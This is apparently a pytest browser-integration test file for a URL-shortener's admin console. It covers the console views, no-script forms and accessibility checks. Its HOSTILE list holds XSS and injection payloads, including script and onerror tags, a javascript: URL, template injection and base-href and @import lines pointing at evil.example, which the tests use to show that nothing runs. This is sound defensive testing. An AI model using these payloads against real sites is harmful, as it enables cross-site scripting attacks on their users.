"""
The console in a browser: hostile texts in every field and view, what can be read, and how it looks.

One file: all of its tests share one browser, one gateway and what `furnish` puts there, which take longest.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from app.ports import Refusal
from app.web import errors
from app.web.pages import load
from tests.integration import accessibility
from tests.integration.console_session import ConsoleSession
from tests.servers import browser
from tests.servers.browser import Browser
from tests.servers.hopgate import UNLIMITED, Gateway, eventually, hopgate, make_key

pytestmark = [
    pytest.mark.skipif(bool(browser.missing()), reason=f"{browser.missing()} not installed"),
    pytest.mark.timeout(600),
]
SCREENS = {"phone": (360, 740), "wide": (1280, 800)}
# Each calls `ran` if it runs.
HOSTILE = (
    "<script>ran('script')</script>",
    '"><img src=x onerror=ran(1)>',
    "'><svg onload=ran(2)>",
    "</textarea></title></style><script>ran(3)</script>",
    "javascript:ran(4)",
    "{{ 7 * 7 }}{% raw %}${7*7}",
    '" autofocus onfocus="ran(5)" x="',
    "<a href='data:text/html,<script>ran(6)</script>'>x</a>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<base href=https://evil.example/><form action=//evil.example>",
    "<iframe srcdoc='<script>parent.ran(7)</script>'></iframe>",
    "\u202egnp.exe &lt;b&gt; &#x3c;script&#x3e;",
)
_WATCH = """
window.ran = what => { window.name += ' ran:' + what; };
document.addEventListener('securitypolicyviolation', event => {
  window.name += ' refused:' + event.effectiveDirective + ':' + event.blockedURI;
});
"""
# What a reader that cannot see the page, or sees it badly, would miss.
_FINDINGS = """
const found = [];
if (!document.documentElement.lang) found.push('no language');
if (document.querySelectorAll('h1').length !== 1) found.push('not one h1');
let level = 0;
for (const one of document.querySelectorAll('h1, h2, h3')) {
  const now = +one.tagName[1];
  if (now > level + 1 && level) found.push(`h${now} below h${level}: ${one.textContent}`);
  level = now;
}
const ids = [...document.querySelectorAll('[id]')].map(one => one.id);
if (new Set(ids).size !== ids.length) found.push('an id occurs twice');
for (const one of document.querySelectorAll('input:not([type=hidden]), select')) {
  if (!one.labels.length) found.push(`no label: ${one.name}`);
  for (const id of (one.getAttribute('aria-describedby') || '').split(/\\s+/).filter(Boolean))
    if (!document.getElementById(id)) found.push(`describedby ${id}`);
}
for (const one of document.querySelectorAll('img')) if (!one.alt) found.push('no alt');
for (const one of document.querySelectorAll('a, button'))
  if (!one.hidden && !one.textContent.trim() && !one.querySelector('img'))
    found.push(`no name: ${one.outerHTML}`);
const channel = c => (c /= 255) <= .04045 ? c / 12.92 : ((c + .055) / 1.055) ** 2.4;
const light = text => {
  const [r, g, b] = text.match(/[\\d.]+/g).map(Number);
  return .2126 * channel(r) + .7152 * channel(g) + .0722 * channel(b);
};
const behind = one => {
  for (let at = one; at; at = at.parentElement) {
    const colour = getComputedStyle(at).backgroundColor;
    if (!/, 0\\)$/.test(colour)) return colour;
  }
  return 'rgb(255, 255, 255)';
};
for (const one of document.querySelectorAll('body *')) {
  const own = [...one.childNodes].some(node => node.nodeType === 3 && node.textContent.trim());
  if (!own || !one.getClientRects().length) continue;
  const [a, b] = [light(getComputedStyle(one).color), light(behind(one))].sort((x, y) => y - x);
  const ratio = (a + .05) / (b + .05);
  if (ratio < 4.5) found.push(`contrast ${ratio.toFixed(2)} of ${one.tagName} ${one.className}`);
}
for (const one of document.querySelectorAll('button, select, .button, main input:not([type=hidden])')) {
  const box = one.getBoundingClientRect();
  if (box.height && box.height < 24) found.push(`small: ${one.outerHTML}`);
}
return found;
"""


@pytest.fixture(scope="module")
def window() -> Iterator[Browser]:
    with Browser() as window:
        yield window


@pytest.fixture(scope="module")
def gateway(tmp_path_factory) -> Iterator[Gateway]:
    directory = tmp_path_factory.mktemp("console-page")
    settings = {**UNLIMITED, "HOPGATE_DATA_DIR": str(directory / "data")}
    key = make_key(settings)
    with Gateway(settings, directory) as gateway:
        gateway.key, gateway.settings = key, settings  # type: ignore[attr-defined]
        yield gateway


def sign_in(window: Browser, gateway, key: str = "") -> None:
    """Sign in as a person does, by a form that the browser sends."""
    window.open(f"{gateway.url}/console/sign-in")
    window.run(f"document.querySelector('#key').value = {json.dumps(key or gateway.key)}")
    submit(window, "form")
    eventually(lambda: path_of(window) == "/console", 10, "the overview is shown")


def submit(window: Browser, form: str) -> None:
    window.run(f"document.querySelector({json.dumps(form)}).requestSubmit()")


def path_of(window: Browser) -> str:
    """Return where the page is that is shown; nothing while it is loaded."""
    return str(window.run("return document.readyState === 'complete' ? location.pathname : ''"))


def post(
    window: Browser, gateway: Gateway, path: str, fields: dict[str, str], file: str | None = None
) -> None:
    """Send a form from the page that is shown, with the token of its session; wait for the answer."""
    window.run(f"""
        document.documentElement.dataset.old = 'old';
        const form = document.createElement('form');
        // Pages of problems have none.
        const token = document.querySelector('[name=form_token]')?.value ?? sessionStorage.token;
        sessionStorage.token = token;
        const fields = {{form_token: token, ...{json.dumps(fields)}}};
        for (const [name, value] of Object.entries(fields)) {{
          const field = document.createElement('input');
          [field.type, field.name, field.value] = ['hidden', name, value];
          form.append(field);
        }}
        const content = {json.dumps(file)};
        if (content !== null) {{
          const chosen = new DataTransfer();
          chosen.items.add(new File([content], 'links.csv'));
          const field = document.createElement('input');
          [field.type, field.name, field.files] = ['file', 'file', chosen.files];
          [form.enctype, form.hidden] = ['multipart/form-data', true];
          form.append(field);
        }}
        form.method = 'post';
        form.action = {json.dumps(gateway.url + path)};
        document.body.append(form);
        form.submit();
    """)
    ready = "return document.readyState === 'complete' && !document.documentElement.dataset.old"
    eventually(lambda: window.run(ready), 20, f"the answer of {path} is shown")


def shows(window: Browser, text: str) -> None:
    eventually(lambda: path_of(window) and text in window.text(), 20, f"the page says: {text}")


def fill(window: Browser, **values: str) -> None:
    for name, value in values.items():
        window.run(f"document.querySelector('main [name={name}]').value = {json.dumps(value)}")


def test_walk_through_every_view(window, gateway):
    sign_in(window, gateway)
    window.run("document.querySelector('nav a[href$=new]').click()")
    eventually(lambda: path_of(window) == "/console/links/new", 20, "the form is shown")
    fill(
        window,
        long_url="https://example.com/in-a-browser",
        slug="in-a-browser",
        tags="walked",
        utm_medium="walk",
        expires_at="2090-01-31T12:30:15",
    )
    submit(window, "main form")
    shows(window, "The link is there.")
    assert "2090-01-31 12:30" in window.text()
    assert "https://example.com/in-a-browser?utm_medium=walk" in window.text()
    assert window.run("return document.querySelector('.qr').naturalWidth") > 0
    assert window.run("return !document.querySelector('button[data-copies]').hidden") is True
    assert window.run("return document.styleSheets[0].cssRules.length") > 20

    visit = httpx.get(f"{gateway.url}/in-a-browser")
    assert visit.headers["location"] == "https://example.com/in-a-browser?utm_medium=walk"
    own = f"{gateway.url}/console/link?slug=in-a-browser"

    def is_counted() -> bool:
        window.open(own)
        return bool(window.run("return document.querySelector('#total').textContent") == "1")

    eventually(is_counted, 20, "the visit is shown")
    window.run("document.querySelector('main a.button').click()")
    eventually(lambda: path_of(window) == "/console/link/edit", 20, "the form is shown")
    fill(window, title="A new title")
    submit(window, "main form")
    shows(window, "The link is changed.")
    submit(window, "form[action$=remove]")
    shows(window, "The link is removed")
    submit(window, "form[action$=undo]")
    shows(window, "The last change is undone.")
    assert "A new title" in window.text()

    window.open(f"{gateway.url}/console/links?tag=walked")
    window.run("document.querySelector('button[data-picks]').click()")
    assert window.run("return document.querySelectorAll('main :checked[type=checkbox]').length") == 1
    fill(window, do="add_tag")
    window.run("document.querySelector('#bulk-tag').value = 'together'")
    submit(window, "form[action$=bulk]")
    shows(window, "Done: 1 / 1")
    submit(window, "form[action$=undo]")
    titled = "return document.title.startsWith('Undo')"
    eventually(lambda: window.run(titled), 20, "the undo is shown")
    assert "Done: 1 / 1" in window.text()

    window.open(f"{gateway.url}/console/import")
    window.run("""
        const chosen = new DataTransfer();
        const rows = 'long_url,slug\\nhttps://example.com/,walked-in\\nno url,walked-out\\n';
        chosen.items.add(new File([rows], 'links.csv'));
        document.querySelector('#file').files = chosen.files;
        document.querySelector('[value=check]').click();
    """)
    shows(window, "Nothing was stored.")
    assert "1 × long_url" in window.text()
    is_ready = "return !document.querySelector('[value=import]').disabled"
    eventually(lambda: window.run(is_ready), 20, "the check is over")
    window.run("document.querySelector('[value=import]').click()")
    shows(window, "The import is done.")
    assert httpx.get(f"{gateway.url}/walked-in").status_code == 302
    assert httpx.get(f"{gateway.url}/walked-out").status_code == 404

    window.open(f"{gateway.url}/console/keys/new")
    fill(window, name="walking")
    window.run("document.querySelector('[name=\"scope-links:read\"]').checked = true")
    submit(window, "main form")
    shows(window, "It is shown this once")
    key = window.run("return document.querySelector('#secret').value")
    headers = {"Authorization": f"Bearer {key}"}
    assert httpx.get(f"{gateway.url}/api/v1/links", headers=headers).status_code == 200
    window.run("document.querySelector('form[action$=revoke]').requestSubmit()")
    shows(window, "The key is revoked.")
    is_over = lambda: httpx.get(f"{gateway.url}/api/v1/links", headers=headers).status_code == 401  # noqa: E731
    eventually(is_over, 20, "the key is over")


def test_forms_work_without_a_script(window, gateway):
    sign_in(window, gateway)
    window.run_scripts_of_pages(are_run=False)
    try:
        window.open(f"{gateway.url}/console/links/new")
        assert window.run("return document.querySelector('[data-checked]').hidden") is True
        fill(window, long_url="https://example.com/", slug="without-script", utm_source="mail")
        window.run("document.querySelector('[formaction]').click()")
        shows(window, "https://example.com/?utm_source=mail")
        assert "is free" in window.text()
        window.run("document.querySelector('main button').click()")
        shows(window, "The link is there.")
        window.open(f"{gateway.url}/console/import")
        window.run("""
            const chosen = new DataTransfer();
            chosen.items.add(new File(['long_url,slug\\nno url,never\\n'], 'links.csv'));
            document.querySelector('#file').files = chosen.files;
            document.querySelector('[value=check]').click();
        """)
        shows(window, "Nothing was stored.")
        assert path_of(window) == "/console/import"
        assert window.run("return document.querySelector('#file').files.length") == 0
    finally:
        window.run_scripts_of_pages(are_run=True)


def test_form_tells_the_target_and_the_slug_while_it_is_typed(window, gateway):
    with ConsoleSession(gateway, gateway.key) as console:
        assert console.create(long_url="https://example.com/", slug="typed-taken").status_code == 303
    sign_in(window, gateway)
    window.open(f"{gateway.url}/console/links/new")

    def typed(slug: str) -> None:
        window.run(f"""
            document.querySelector('#long_url').value = 'https://example.com/';
            document.querySelector('#utm_source').value = '<b>mail';
            document.querySelector('#slug').value = {json.dumps(slug)};
            document.querySelector('#slug').dispatchEvent(new Event('input', {{bubbles: true}}));
        """)

    typed("typed-taken")

    said = "return document.querySelector('#slug-said').textContent"
    eventually(lambda: "is not free" in window.run(said), 10, "the slug is said to be taken")
    assert window.run("return document.querySelector('#slug').ariaInvalid") == "true"
    target = "https://example.com/?utm_source=%3Cb%3Email"
    assert window.run("return document.querySelector('[data-target]').innerText") == target
    typed("typed-free")
    eventually(lambda: window.run(said) == "is free", 10, "the slug is said to be free")
    assert window.run("return document.querySelector('#slug').ariaInvalid") is None


def test_hostile_texts_run_nothing(window, gateway):
    with ConsoleSession(gateway, gateway.key) as console, httpx.Client() as visitor:
        for number, text in enumerate(HOSTILE):
            slug = f"hostile-{number}"
            made = console.create(
                long_url=f"https://example.com/?q={text}",
                slug=slug,
                title=text,
                tags=text.replace(",", ""),
                utm_source=text,
            )
            if made.status_code != 303:
                # A rule of links refuses the text in some field: as a title alone it may stand.
                made = console.create(long_url="https://example.com/", slug=slug, title=text)
            if made.status_code != 303:
                assert made.status_code == 422
                made = console.create(long_url="https://example.com/", slug=slug)
            edit = {"slug": slug, "version": "1", "long_url": "https://example.com/", "enabled": "on"}
            assert console.send("/console/link/edit", **edit, title=f"{number}").status_code == 303
            sent = {"User-Agent": text, "Referer": f"https://evil.example/{text}", "Accept-Language": text}
            as_bytes = [(name.encode(), value.encode()) for name, value in sent.items()]
            visitor.get(f"{gateway.url}/{slug}", headers=as_bytes)
    named = hopgate(gateway.settings, "keys", "create", HOSTILE[1], "--scope", "admin")
    sign_in(window, gateway, named.stdout.strip())
    window.before_each_page(_WATCH)
    window.run("window.name = ''")
    opened = 0
    for number, text in enumerate(HOSTILE):
        typed = json.dumps(text)
        for path, field in (
            ("/console/links?sort=-created&", "search"),
            ("/console/links?", "tag"),
            ("/console/links?", "state"),
            ("/console/links?", "domain"),
            ("/console/links?", "cursor"),
            ("/console/links/new?", "long_url"),
            ("/console/links/new?", "title"),
            ("/console/tags?", "cursor"),
            ("/console/domains/edit?", "host"),
            ("/console/link?", "slug"),
            (f"/console/link?slug=hostile-{number}&", "range"),
            (f"/console/link?slug=hostile-{number}&", "done"),
            (f"/console/link?slug=hostile-{number}&range=24h&", "x"),
            (f"/console/link/edit?slug=hostile-{number}&", "x"),
            ("/console/sign-in?", "link"),
            ("/console/sign-in?", "why"),
            ("/console?", "x"),
        ):
            window.open(f"{gateway.url}{path}{httpx.QueryParams({field: text})}")
            opened += 1
            check_nothing_ran(window, gateway, (path, field, text))
        # A form that is refused shows what was typed.
        window.open(f"{gateway.url}/console/links/new")
        window.run(f"""
            const fields = 'main input:not([type=hidden]):not([type=datetime-local])';
            for (const one of document.querySelectorAll(fields)) one.value = {typed};
        """)
        submit(window, "main form")
        eventually(lambda: "Nothing was stored" in window.text(), 10, "the form is refused")
        assert window.run("return window.name") == "", text
        assert window.run("return document.querySelector('#title').value") == text
    assert opened == len(HOSTILE) * 17


def check_nothing_ran(window: Browser, gateway: Gateway, what: object) -> None:
    assert window.run("return window.name") == "", what
    loaded = window.run("return performance.getEntriesByType('resource').map(one => one.name)")
    assert [one for one in loaded if not one.startswith(f"{gateway.url}/")] == []
    assert window.run("return document.querySelectorAll('main script, base, iframe, style').length") == 0


def test_hostile_forms_run_nothing(window, gateway):
    with ConsoleSession(gateway, gateway.key) as console:
        for number, text in enumerate(HOSTILE):
            made = console.create(long_url="https://example.com/", slug=f"tagged-{number}", tags=text)
            assert made.status_code in (303, 422)
        assert console.create(long_url="https://example.com/", slug="edited-hostile").status_code == 303
        assert console.send("/console/domains/new", host="hostile.example").status_code == 303
    sign_in(window, gateway)
    window.before_each_page(_WATCH)
    window.run("window.name = ''")
    pages = ("root_url", "not_found_url", "expired_url", "min_slug_length", "redirect_code", "robots")
    sent: list[tuple[str, dict[str, str]]] = []
    for text in HOSTILE:
        restrictions = dict.fromkeys(("domains", "allowed_addresses", "rate_limit", "expires_at"), text)
        forms = [
            (
                "/console/links/new/check",
                {"long_url": f"https://example.com/?{text}", "slug": text, "title": text},
            ),
            (
                "/console/links/bulk",
                {"do": "add_tag", "tag": text, "pick-1": text, "pick-2": f"1 {text} {text}"},
            ),
            ("/console/links/bulk/undo", {"pick-1": text, "pick-2": f"1 {text} {text}", "back": text}),
            ("/console/link/edit/check", {"slug": "edited-hostile", "long_url": text, "title": text}),
            ("/console/tags/rename", {"tag": text, "name": f"{text},\n"}),
            ("/console/tags/remove", {"tag": f"{text},\n"}),
            ("/console/domains/new", {"host": text, **dict.fromkeys(pages, text)}),
            ("/console/domains/edit", {"host": "hostile.example", **dict.fromkeys(pages, text)}),
            ("/console/domains/remove", {"host": text}),
            ("/console/keys/rotate", {"key_id": text, "grace": text}),
            ("/console/keys/revoke", {"key_id": text}),
            ("/console/keys/new", {"name": text, f"scope-{text}": "on", **restrictions}),
            ("/console/keys/new", {"name": text, "scope-stats:read": "on"}),
            ("/console/import", {"do": "check", "format": text, "ignore": text, "domain": text}),
            ("/console/import", {"do": "check", "ignore": text}),
        ]
        for path, fields in forms:
            file = f"long_url,title,{text}\n{text},x,x\nhttps://example.com/,{text},x\n"
            post(window, gateway, path, fields, file if path == "/console/import" else None)
            sent.append((path, fields))
            check_nothing_ran(window, gateway, (path, fields))
    for path in ("/console/tags", "/console/keys", "/console/links?search=tagged"):
        window.open(f"{gateway.url}{path}")
        check_nothing_ran(window, gateway, path)
    assert len(sent) == len(HOSTILE) * 15


def test_pages_can_be_read_and_fit(window, gateway, tmp_path):
    """
    Every view, light and dark, on a phone and wide: axe-core finds nothing, and nothing is cut off.

    Some of its screenshots are in docs/images.
    """
    accessibility.load(window)
    with ConsoleSession(gateway, gateway.key) as console:
        furnish(gateway, console)
    sign_in(window, gateway)
    views = {
        "overview": "/console",
        "links": "/console/links?tag=shop",
        "empty": "/console/links?search=nothing-like-it",
        "new": "/console/links/new",
        "link": "/console/link?slug=spring-sale&range=24h",
        "edit": "/console/link/edit?slug=spring-sale",
        "tags": "/console/tags",
        "domains": "/console/domains",
        "domain": "/console/domains/edit?host=go.example",
        "new-domain": "/console/domains/new",
        "keys": "/console/keys",
        "new-key": "/console/keys/new",
        "import": "/console/import",
        "missing": "/console/link?slug=no-such",
        "wrong": "/console/links?state=x",
        "sign-in": "/console/sign-in",
    }
    for name, path in views.items():
        window.open(f"{gateway.url}{path}")
        window.run("for (const one of document.querySelectorAll('main details')) one.open = true")
        check_view(window, name, tmp_path)
    wrong = {"long_url": "no url", "slug": "no slug!", "utm_source": "\t"}
    answers: dict[str, tuple[str, dict[str, str]]] = {
        "preview": ("/console/links/new/check", {"long_url": "https://example.com/", "slug": "jobs"}),
        "refused-link": ("/console/links/new", wrong),
        "stale-link": (
            "/console/link/edit",
            {"slug": "returns", "version": "9", "long_url": "https://a.example/"},
        ),
        "bulk": (
            "/console/links/bulk",
            {"do": "add_tag", "tag": "new", "pick-1": "1 127.0.0.1 returns", "pick-2": "9 127.0.0.1 jobs"},
        ),
        "refused-tag": ("/console/tags/rename", {"tag": "shop", "name": "shop"}),
        "refused-domain": ("/console/domains/new", {"host": "no host", "root_url": "x", "robots": "x"}),
        "refused-key": ("/console/keys/new", {"allowed_addresses": "x", "rate_limit": "x"}),
        "issued-key": ("/console/keys/new", {"name": "reports", "scope-stats:read": "on"}),
        "imported": ("/console/import", {"do": "check"}),
        "removed": ("/console/link/remove", {"slug": "jobs", "version": "2"}),
    }
    rows = (
        "long_url,slug,title",
        "https://example.com/a,offer,Offer",
        "https://example.com/b,no slug!,Two",
        "x,third,3",
    )
    file = "\n".join((*rows, ""))
    for name, (path, fields) in answers.items():
        window.open(f"{gateway.url}/console/links")
        post(window, gateway, path, fields, file if path == "/console/import" else None)
        check_view(window, name, tmp_path)


def test_pages_for_people_break_no_rule(window, gateway, tmp_path):
    """Those of other statuses than visits have here are shown as they are sent."""
    accessibility.load(window)
    with ConsoleSession(gateway, gateway.key) as console:
        console.create(long_url="https://example.com/there", slug="people-there", title="What is there")
        console.create(long_url="https://example.com/", slug="people-gone")
        console.send("/console/link/remove", slug="people-gone", version="1")
    accepted = "text/html,application/xhtml+xml,*/*;q=0.8"
    for path in ("", "/no-such-link", "/people-gone", "/people-there+"):
        window.open(f"{gateway.url}{path or '/'}", Accept=accepted)
        assert window.run("return document.querySelectorAll('main h1').length") == 1, path
        check_view(window, f"people{path.replace('/', '-')}", tmp_path)
    for language in ("en", "de"):
        pages = load(language)
        for problem in (
            errors.unreadable("x"),
            errors.blocked("http://hop.example/"),
            errors.too_many_requests(Refusal(1, {})),
            errors.overloaded(),
        ):
            page = pages.page_of(problem)
            assert page is not None
            content = base64.b64encode(page.body).decode()
            window.open(f"data:text/html;charset=utf-8;base64,{content}")
            check_view(window, f"people-{problem.status}-{language}", tmp_path)
    window.run("document.querySelector('main').append(document.createElement('img'))")
    assert [one for one in accessibility.violations(window) if one.startswith("image-alt")] != []


def check_view(window: Browser, name: str, folder: Path) -> None:
    """Check the page that is shown, on each screen and in both schemes."""
    for screen, (width, height) in SCREENS.items():
        for dark in (False, True):
            window.look(width=width, height=height, dark=dark)
            window.run("window.scrollTo(0, 0)")
            shot = folder / f"{name}-{screen}-{'dark' if dark else 'light'}.png"
            shot.write_bytes(window.screenshot())
            assert accessibility.violations(window) == [], (name, screen, dark)
            assert name.startswith("people") or window.run(_FINDINGS) == [], (name, screen, dark)
            assert window.run("return document.documentElement.scrollWidth") <= width, (name, screen)


def furnish(gateway: Gateway, console: ConsoleSession) -> None:
    """Make links as a shop has them, with visits."""
    rows = [
        (
            "spring-sale",
            "https://shop.example.com/sale/spring?utm_source=flyer",
            "Spring sale",
            "shop, flyer",
        ),
        ("returns", "https://shop.example.com/help/returns", "How to send it back", "shop, help"),
        ("jobs", "https://example.com/about/jobs", "We are hiring", "shop"),
    ]
    for slug, long_url, title, tags in rows:
        assert console.create(long_url=long_url, slug=slug, title=title, tags=tags).status_code == 303
    off = {"slug": "jobs", "version": "1", "long_url": rows[2][1], "title": rows[2][2], "tags": "shop"}
    assert console.send("/console/link/edit", **off).status_code == 303
    later = {"slug": "spring-sale", "version": "1", "long_url": rows[0][1], "tags": "shop, flyer"}
    sent = console.send(
        "/console/link/edit", **later, title="Spring sale 2026", utm_source="flyer", enabled="on"
    )
    assert sent.status_code == 303
    for host, fields in {"go.example": {"root_url": "https://www.example.com/"}, "b.example": {}}.items():
        added = console.send("/console/domains/new", host=host, **fields)
        assert added.headers.get("location") == "/console/domains?done=added", added.text
    agents = (
        "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605 Version/18.5 Safari/604.1",
        "Googlebot/2.1 (+http://www.google.com/bot.html)",
    )
    for number in range(24):
        headers = {
            "User-Agent": agents[number % 7 % 3],
            "Accept-Language": "de" if number % 3 else "en",
            **({"Referer": "https://news.example/today"} if number % 2 else {}),
        }
        assert httpx.get(f"{gateway.url}/spring-sale", headers=headers).status_code == 302
    eventually(lambda: "Firefox" in console.page("spring-sale").text, 20, "the visits are described")
